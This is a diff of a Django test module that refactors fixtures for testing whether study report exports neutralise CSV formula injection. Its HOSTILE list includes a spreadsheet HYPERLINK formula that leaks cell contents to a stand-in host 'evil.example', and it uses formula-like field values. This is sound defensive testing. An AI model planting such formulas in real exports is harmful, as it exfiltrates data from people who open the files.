@@ -12,15 +12,13 @@ from datetime import timedelta
 
 import orjson
 import pytest
-from django.contrib.auth.models import User
 from django.utils import timezone
 
 from reviewapp.ingest.models import Item
 from reviewapp.queue.models import Assignment, Label
 from reviewapp.reports import exports
-from reviewapp.studies.models import Arm, Enrolment, Study
-
-from .test_exports import body, csv_dicts, csv_rows, researcher_of
+from reviewapp.studies.models import Arm, Study
+from tests.builders import body, csv_dicts, csv_rows, enrol, researcher_of
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
@@ -53,8 +51,7 @@ def hostile(db) -> Study:
     """A reveal-arm study whose every text field is hostile: names, ids, answers, comments."""
     study = Study.objects.create(slug="hostile", title="Hostile", status=Study.Status.RUNNING, label_schema=SCHEMA)
     arm = Arm.objects.create(study=study, name="=ARM()", shows_ai_recommendation=True, reveal=True)
-    reviewer = User.objects.create_user("@alice")  # the username validator would refuse it; the database does not
-    Enrolment.objects.create(study=study, reviewer=reviewer, arm=arm, seed=1, sequence=0, source="admin")
+    reviewer = enrol(study, "@alice", arm.name)  # the username validator would refuse it; the database does not
     now = timezone.now()
     for index, text in enumerate(HOSTILE):
         item = Item.objects.create(
